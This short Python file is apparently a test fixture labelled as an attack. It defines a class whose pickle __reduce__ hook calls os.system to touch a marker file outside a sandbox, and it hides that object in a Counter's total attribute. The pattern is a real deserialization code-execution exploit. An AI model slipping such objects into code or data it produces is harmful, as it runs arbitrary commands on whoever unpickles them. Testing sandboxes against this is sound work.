# attack: the total is an object whose pickle runs code
import os

class Boom:
    def __reduce__(self):
        return os.system, ("touch {OUTSIDE}/unpickled",)


class Counter:
    total = Boom()

    def add(self, n): pass
